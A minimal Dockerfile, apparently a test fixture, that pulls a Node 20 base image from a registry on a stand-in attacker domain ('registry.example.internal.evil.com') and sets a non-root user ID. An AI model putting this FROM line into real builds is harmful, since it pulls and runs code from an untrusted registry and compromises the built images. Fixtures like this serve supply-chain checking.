FROM registry.example.internal.evil.com/base/node:20
USER 10001
